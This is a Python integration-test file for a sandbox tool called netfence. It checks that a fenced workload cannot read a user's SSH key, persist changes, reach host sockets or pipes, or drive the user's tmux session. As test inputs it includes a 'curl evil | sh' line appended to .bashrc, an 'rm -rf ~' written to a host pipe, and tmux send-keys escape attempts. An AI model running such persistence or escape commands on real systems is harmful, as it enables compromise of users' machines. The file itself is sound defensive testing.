"""The workload's file-system view, end to end: real bubblewrap, a real unprivileged user
with a home, a secret, a shell start-up file and a tmux server of its own, and host Unix
sockets where such things live. The workload sees the system directories, its grants and
nothing else of the host; it connects to no host socket that was not granted; nothing it
writes outside its `write` grants survives it. Envoy only (the view does not depend on
the backend); one case for the docker runtime on the session's Podman engine.

Rootless (the cases marked `both_privileges`), the workload's user is the caller: the
session's unprivileged test user runs netfence itself, with the same key, .bashrc and
tmux server in its own home, and the same escapes must be refused."""

from __future__ import annotations

import contextlib
import os
import pwd
import secrets
import shutil
import socket
import subprocess
import tempfile
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.fakenet import FakeNet
from tests.support.fence import acting, both_privileges, leftovers, netfence_argv, nothing_new
from tests.support.podman import TEST_PREFIX, Engine
from tests.support.rootless import RootlessUser

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("privilege")]

USER = "nf-fstest"
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- nf-fstest-secret"
TMUX_SESSION = "nf"


@dataclass(frozen=True)
class FsUser:
    name: str
    uid: int
    gid: int
    home: Path

    def run(self, *argv: str, timeout: float = 30) -> subprocess.CompletedProcess[str]:
        """A command as this user, outside any fence (its own login environment)."""
        return subprocess.run(argv, capture_output=True, text=True, timeout=timeout,
                              user=self.uid, group=self.gid, extra_groups=[], cwd=self.home,
                              env={"HOME": str(self.home), "USER": self.name,
                                   "PATH": "/usr/bin:/bin", "SHELL": "/bin/sh"})


def _remove_user(name: str) -> None:
    try:
        uid = pwd.getpwnam(name).pw_uid
    except KeyError:
        return
    # Its tmux server, by tmux's own command (never by process name).
    subprocess.run(["tmux", "-S", f"/tmp/tmux-{uid}/default", "kill-server"],
                   capture_output=True, timeout=10)
    subprocess.run(["userdel", "--remove", name], capture_output=True, timeout=30)
    shutil.rmtree(f"/tmp/tmux-{uid}", ignore_errors=True)


def _furnish(found: FsUser) -> None:
    """What a user's home holds that a workload must not reach: a key, a shell start-up
    file, and a tmux server of theirs."""
    if shutil.which("tmux") is None:
        pytest.fail("tmux is not installed (scripts/install installs it)")
    ssh = found.home / ".ssh"
    ssh.mkdir(mode=0o700)
    (ssh / "id_rsa").write_text(SECRET + "\n")
    (ssh / "id_rsa").chmod(0o600)
    (found.home / ".bashrc").write_text("# nf-fstest\n")
    for path in (ssh, ssh / "id_rsa", found.home / ".bashrc"):
        os.chown(path, found.uid, found.gid)
    started = found.run("tmux", "new-session", "-d", "-s", TMUX_SESSION)
    assert started.returncode == 0, started.stderr
    # The session's shell is a fork of the server until it execs: a test's leftover check
    # that took it for the server would count the shell as new.
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        pane = found.run("tmux", "display-message", "-p", "-t", TMUX_SESSION,
                         "#{pane_pid}").stdout.strip()
        with contextlib.suppress(OSError):
            if pane and not Path(f"/proc/{pane}/cmdline").read_bytes().startswith(b"tmux"):
                break
        time.sleep(0.01)


@pytest.fixture(scope="session")
def root_fs_user(fakenet: FakeNet) -> Iterator[FsUser]:
    """A real unprivileged user, the workload's (--user) under root's fence, furnished;
    removed at the end, also on failure (and first, if a crashed session left it)."""
    _remove_user(USER)
    subprocess.run(["useradd", "--system", "--create-home", "--shell", "/bin/sh", USER],
                   check=True, capture_output=True, timeout=30)
    try:
        pw = pwd.getpwnam(USER)
        found = FsUser(USER, pw.pw_uid, pw.pw_gid, Path(pw.pw_dir))
        _furnish(found)
        yield found
    finally:
        _remove_user(USER)


@pytest.fixture(scope="module")
def rootless_fs_user(rootless_user: RootlessUser) -> Iterator[FsUser]:
    """The session's rootless test user, furnished the same way for this module (the
    user and all of it are removed with the session)."""
    found = FsUser(rootless_user.name, rootless_user.uid, rootless_user.gid,
                   rootless_user.home)
    try:
        _furnish(found)
        yield found
    finally:
        found.run("tmux", "kill-server")
        shutil.rmtree(f"/tmp/tmux-{found.uid}", ignore_errors=True)
        shutil.rmtree(found.home / ".ssh", ignore_errors=True)


@pytest.fixture
def user(request: pytest.FixtureRequest, privilege: str) -> FsUser:
    """The workload's user: root's fence runs it as --user nf-fstest; a rootless fence
    as its caller, the test user."""
    found = request.getfixturevalue(f"{privilege}_fs_user")
    assert isinstance(found, FsUser)
    return found


@pytest.fixture(autouse=True)
def nothing_left_behind(request: pytest.FixtureRequest) -> Iterator[None]:
    if "user" in request.fixturenames:
        request.getfixturevalue("user")  # its tmux server is no leftover of a test
    with nothing_new(leftovers):
        yield


@pytest.fixture
def scratch() -> Iterator[Path]:
    """A world-readable directory on the host, for grants and host sockets."""
    path = Path(tempfile.mkdtemp(prefix="nf-fsview-"))
    path.chmod(0o755)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def as_user() -> tuple[str, ...]:
    """--user for root's fence; rootless, the workload is the caller."""
    return () if acting() else ("--user", USER)


def fenced(net_args: list[str], *command: str, extra: tuple[str, ...] = (),
           env: dict[str, str] | None = None,
           timeout: float = 60) -> subprocess.CompletedProcess[str]:
    argv = netfence_argv("run", "--proxy", "envoy", *net_args, *as_user(), *extra, "--",
                         *command)
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})


def python(net_args: list[str], code: str, extra: tuple[str, ...] = ()
           ) -> subprocess.CompletedProcess[str]:
    return fenced(net_args, "python3", "-c", code, extra=extra)


def listening(stack: ExitStack, path: Path) -> Path:
    """A Unix socket any user may connect to (a connection queues; none is accepted)."""
    sock = stack.enter_context(socket.socket(socket.AF_UNIX))
    sock.bind(str(path))
    path.chmod(0o777)
    sock.listen(8)
    return path


# The paths come in the environment: as arguments, netfence would refuse to start a
# command naming a host path outside the view.
CONNECT = ("import os, socket\n"
           "for path in os.environ['SOCKETS'].split():\n"
           "    s = socket.socket(socket.AF_UNIX)\n"
           "    try:\n"
           "        s.connect(path); print(path, 'CONNECTED')\n"
           "    except OSError as e:\n"
           "        print(path, 'refused', e.errno)\n")


def connect_from_workload(net_args: list[str], *paths: Path,
                          extra: tuple[str, ...] = ()) -> str:
    done = fenced(net_args, "python3", "-c", CONNECT,
                  extra=(*extra, "--env", "SOCKETS=" + " ".join(map(str, paths))))
    assert done.returncode == 0, done.stderr
    return done.stdout


def one_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in text, text
    return lines[0]


# --- the user's files ----------------------------------------------------------------


@both_privileges
def test_the_users_secret_key_is_not_there(user: FsUser, net_args: list[str]) -> None:
    assert user.run("cat", str(user.home / ".ssh/id_rsa")).stdout.startswith(SECRET)  # control
    done = fenced(net_args, "sh", "-c", f"cat {user.home}/.ssh/id_rsa; echo rc=$?; "
                  "ls -A $HOME; echo home=$HOME; ls /home /root /srv /mnt 2>&1")
    assert SECRET not in done.stdout, done.stdout
    assert "rc=1" in done.stdout and f"home={user.home}\n" in done.stdout, done.stdout + done.stderr
    assert ".ssh" not in done.stdout and ".bashrc" not in done.stdout
    for absent in ("/root", "/srv", "/mnt"):
        assert f"cannot access '{absent}'" in done.stdout, done.stdout


@both_privileges
def test_appending_to_bashrc_leaves_the_host_file_unchanged(user: FsUser,
                                                           net_args: list[str]) -> None:
    before = (user.home / ".bashrc").read_bytes()
    done = fenced(net_args, "sh", "-c", "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc")
    assert done.returncode == 0, done.stderr
    assert "curl evil" in done.stdout  # it wrote its own, empty home
    assert (user.home / ".bashrc").read_bytes() == before


@both_privileges
def test_files_written_to_tmp_and_var_tmp_do_not_survive(user: FsUser,
                                                         net_args: list[str]) -> None:
    tag = secrets.token_hex(4)
    paths = [Path(f"/tmp/nf-fsview-{tag}"), Path(f"/var/tmp/nf-fsview-{tag}"),
             Path(f"/dev/shm/nf-fsview-{tag}")]
    script = "; ".join(f"echo x > {p} && ls {p}" for p in paths)
    done = fenced(net_args, "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert all(str(p) in done.stdout for p in paths), done.stdout
    assert not [p for p in paths if p.exists()]


@both_privileges
def test_a_write_into_a_read_grant_fails(user: FsUser, net_args: list[str],
                                         scratch: Path) -> None:
    data = scratch / "data"
    data.mkdir(mode=0o777)
    data.chmod(0o777)  # the user could write it on the host: the grant alone forbids it
    (data / "notes.txt").write_text("original\n")
    (data / "notes.txt").chmod(0o666)
    done = fenced(net_args, "sh", "-c", f"cat {data}/notes.txt; echo changed > "
                  f"{data}/notes.txt; echo rc=$?; touch {data}/new; echo rc=$?",
                  extra=("--read", str(data)))
    assert "original" in done.stdout and "rc=0" not in done.stdout, done.stdout + done.stderr
    assert "Read-only file system" in done.stderr, done.stderr
    assert (data / "notes.txt").read_text() == "original\n"
    assert not (data / "new").exists()


@both_privileges
def test_a_write_grant_works_and_the_file_survives(user: FsUser, net_args: list[str],
                                                   scratch: Path) -> None:
    out = scratch / "out"
    out.mkdir()
    os.chown(out, user.uid, user.gid)
    # A relative grant is the caller's directory's: run from `scratch`.
    argv = netfence_argv("run", "--proxy", "envoy", *net_args, *as_user(),
                         "--write", "out", "--", "sh", "-c", f"echo result > {out}/answer.txt")
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, cwd=scratch)
    assert done.returncode == 0, done.stderr
    assert (out / "answer.txt").read_text() == "result\n"
    assert (out / "answer.txt").stat().st_uid == user.uid


# --- Unix sockets --------------------------------------------------------------------


@both_privileges
def test_a_host_socket_in_tmp_is_out_of_reach(user: FsUser, net_args: list[str],
                                              scratch: Path) -> None:
    with ExitStack() as stack:
        sock = listening(stack, scratch / "host.sock")
        control = user.run("env", f"SOCKETS={sock}", "python3", "-c", CONNECT)
        assert "CONNECTED" in control.stdout, control  # reachable outside the fence
        out = connect_from_workload(net_args, sock)
    assert f"{sock} refused 2" in out, out


@both_privileges
def test_a_socket_inside_a_read_grant_is_hidden_unless_granted(
        user: FsUser, net_args: list[str], scratch: Path) -> None:
    granted = scratch / "granted"
    (granted / "deeper").mkdir(parents=True)
    for d in (granted, granted / "deeper"):
        d.chmod(0o755)
    (granted / "readme").write_text("visible\n")
    (granted / "readme").chmod(0o644)
    with ExitStack() as stack:
        agent = listening(stack, granted / "deeper" / "agent.sock")
        other = listening(stack, granted / "other.sock")
        out = connect_from_workload(net_args, agent, other, extra=("--read", str(granted)))
        assert f"{agent} refused" in out and f"{other} refused" in out, out
        assert "CONNECTED" not in out
        out = connect_from_workload(net_args, agent, other,
                                    extra=("--read", str(granted),
                                           "--allow-unix-socket", str(agent)))
        assert f"{agent} CONNECTED" in out and f"{other} refused" in out, out
        # Granted alone, outside any other grant.
        out = connect_from_workload(net_args, other, extra=("--allow-unix-socket", str(other)))
        assert f"{other} CONNECTED" in out, out


@both_privileges
def test_a_named_pipe_inside_a_read_grant_carries_nothing_to_the_host(
        user: FsUser, net_args: list[str], scratch: Path) -> None:
    """A read-only mount does not stop writes into a pipe: a host program's control pipe
    in a granted directory is covered as a socket is."""
    granted = scratch / "pipes"
    granted.mkdir(mode=0o755)
    pipe = granted / "control"
    os.mkfifo(pipe, 0o666)
    pipe.chmod(0o666)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)  # the host program, listening
    try:
        done = python(net_args, "import os\n"
                      "try:\n"
                      "    fd = os.open(os.environ['PIPE'], os.O_WRONLY | os.O_NONBLOCK)\n"
                      "    print('wrote', os.write(fd, b'rm -rf ~\\n'))\n"
                      "except OSError as e:\n"
                      "    print('refused', e.errno)\n",
                      extra=("--read", str(granted), "--env", f"PIPE={pipe}"))
        assert done.returncode == 0, done.stderr
        # No writer ever came (a non-blocking read of a pipe nobody wrote ends at once).
        assert os.read(reader, 100) == b"", done.stdout
    finally:
        os.close(reader)


@both_privileges
def test_a_hidden_socket_cannot_be_uncovered(user: FsUser, net_args: list[str],
                                             scratch: Path) -> None:
    """In a write grant the workload owns, the cover over a socket can be neither removed
    nor renamed away."""
    work = scratch / "work"
    work.mkdir()
    os.chown(work, user.uid, user.gid)
    with ExitStack() as stack:
        sock = listening(stack, work / "s.sock")
        done = fenced(net_args, "sh", "-c",
                      f"rm -f {sock}; mv {sock} {work}/moved.sock; ln {sock} {work}/hard; "
                      "python3 -c \"$0\"", CONNECT,
                      extra=("--write", str(work), "--env",
                             f"SOCKETS={sock} {work}/moved.sock {work}/hard"))
        assert "CONNECTED" not in done.stdout, done.stdout + done.stderr
        assert f"{sock} refused" in done.stdout, done.stdout + done.stderr
        assert sock.exists()


@both_privileges
def test_a_socket_behind_a_closed_directory_does_not_stop_the_start(
        user: FsUser, net_args: list[str], scratch: Path) -> None:
    """bubblewrap runs as the workload's user and could not cover a socket that user can
    never reach; the start goes on, and the socket stays out of reach."""
    granted = scratch / "granted"
    (granted / "roots-only").mkdir(parents=True)
    granted.chmod(0o755)
    (granted / "roots-only").chmod(0o700)
    with ExitStack() as stack:
        sock = listening(stack, granted / "roots-only" / "s.sock")
        out = connect_from_workload(net_args, sock, extra=("--read", str(granted)))
    assert f"{sock} refused 13" in out, out  # EACCES: the directory is closed to it


@both_privileges
def test_the_users_tmux_server_cannot_be_driven(user: FsUser, net_args: list[str]) -> None:
    """The escape from issue 11: a fenced command typing into the user's tmux session runs
    outside the fence. Shown to work without the fence first, then refused with it."""
    marker = user.home / f"escaped-{secrets.token_hex(4)}"
    keys = f"readlink /proc/self/ns/net > {marker}"
    outside = user.run("tmux", "send-keys", "-t", TMUX_SESSION, keys, "Enter")
    assert outside.returncode == 0, outside.stderr
    deadline = time.monotonic() + 10
    while not marker.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert marker.exists(), "control: the outside shell never ran the command"
    marker.unlink()

    done = fenced(net_args, "sh", "-c",
                  f"tmux send-keys -t {TMUX_SESSION} '{keys}' Enter; echo rc=$?; "
                  f"ls /tmp/tmux-{user.uid} 2>&1")
    assert "rc=0" not in done.stdout, done.stdout + done.stderr
    time.sleep(2)  # what the outside shell would run, it would have run by now
    assert not marker.exists()


@both_privileges
def test_the_workloads_own_sockets_work(user: FsUser, net_args: list[str]) -> None:
    code = ("import asyncio, multiprocessing, socket\n"
            "a, b = socket.socketpair(); a.sendall(b'pair'); print(b.recv(4).decode())\n"
            "async def main():\n"
            "    async def serve(r, w):\n"
            "        w.write(await r.read(5)); await w.drain(); w.close()\n"
            "    server = await asyncio.start_unix_server(serve, '/tmp/own.sock')\n"
            "    r, w = await asyncio.open_unix_connection('/tmp/own.sock')\n"
            "    w.write(b'hello'); await w.drain(); print((await r.read()).decode())\n"
            "    server.close()\n"
            "asyncio.run(main())\n"
            "if __name__ == '__main__':\n"
            "    with multiprocessing.get_context('forkserver').Pool(2) as pool:\n"
            "        print(sum(pool.map(abs, [-1, -2])))\n")
    done = python(net_args, code)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["pair", "hello", "3"], done.stdout + done.stderr


# --- refusals before anything starts -------------------------------------------------


def test_a_missing_grant_exits_2_in_one_line(user: FsUser, net_args: list[str],
                                             scratch: Path) -> None:
    done = fenced(net_args, "true", extra=("--read", str(scratch / "nope")))
    assert done.returncode == 2
    assert str(scratch / "nope") in one_line(done.stderr)


def test_a_grant_the_caller_cannot_read_exits_2_in_one_line(
        user: FsUser, net_args: list[str], scratch: Path) -> None:
    closed = scratch / "roots-only"
    closed.mkdir(mode=0o700)
    (closed / "secret").write_text("root's\n")
    # Through sudo: the caller is the test user, who cannot read root's directory.
    done = fenced(net_args, "true", extra=("--read", str(closed)),
                  env={"SUDO_UID": str(user.uid), "SUDO_GID": str(user.gid)})
    assert done.returncode == 2, done.stderr
    line = one_line(done.stderr)
    assert str(closed) in line and USER in line, line


@pytest.mark.parametrize("path", ["/", "/run", "/proc", "/run/netfence"])
def test_paths_never_granted(user: FsUser, net_args: list[str], path: str) -> None:
    done = fenced(net_args, "true", extra=("--write", path))
    assert done.returncode == 2
    assert "never" in one_line(done.stderr)


@both_privileges
def test_a_script_outside_the_view_gets_the_read_that_shows_it(
        user: FsUser, net_args: list[str], scratch: Path) -> None:
    server = scratch / "mcp" / "server.py"
    server.parent.mkdir()
    server.parent.chmod(0o755)
    server.write_text("print('served')\n")
    server.chmod(0o644)
    done = fenced(net_args, "python3", str(server))
    assert done.returncode == 2
    line = one_line(done.stderr)
    assert str(server) in line and f"--read {server.parent}" in line, line
    done = fenced(net_args, "python3", str(server), extra=("--read", str(server.parent)))
    assert done.returncode == 0 and done.stdout == "served\n", done.stderr


# --- the docker runtime --------------------------------------------------------------


def test_docker_runtime_mounts_read_and_write_grants(podman: Engine, net_args: list[str],
                                                     scratch: Path) -> None:
    """The container sees its image plus the grants: `read` read-only, `write` writable,
    and a host socket inside a grant covered, as in the namespace runtime."""
    data, out = scratch / "data", scratch / "out"
    data.mkdir()
    out.mkdir(mode=0o777)
    out.chmod(0o777)
    (data / "in.txt").write_text("from the host\n")
    (data / "in.txt").chmod(0o644)
    data.chmod(0o755)
    name = f"{TEST_PREFIX}{secrets.token_hex(4)}"
    script = (f"cat {data}/in.txt; echo x > {data}/in.txt; echo rc=$?; "
              f"echo written > {out}/result.txt; python3 -c \"$0\"")
    with ExitStack() as stack, nothing_new(podman.managed):
        sock = listening(stack, data / "agent.sock")
        done = subprocess.run(
            netfence_argv("run", "--runtime", "docker", "--proxy", "envoy", *net_args,
                          "--name", name, "--read", str(data), "--write", str(out),
                          "--env", f"SOCKETS={sock}", "--",
                          podman.workload_image, "sh", "-c", script, CONNECT),
            capture_output=True, text=True, timeout=120, env=podman.env())
    assert done.returncode == 0, done.stderr
    assert "from the host" in done.stdout and "rc=0" not in done.stdout, done.stdout
    assert f"{sock} refused" in done.stdout, done.stdout + done.stderr
    assert (data / "in.txt").read_text() == "from the host\n"
    assert (out / "result.txt").read_text() == "written\n"
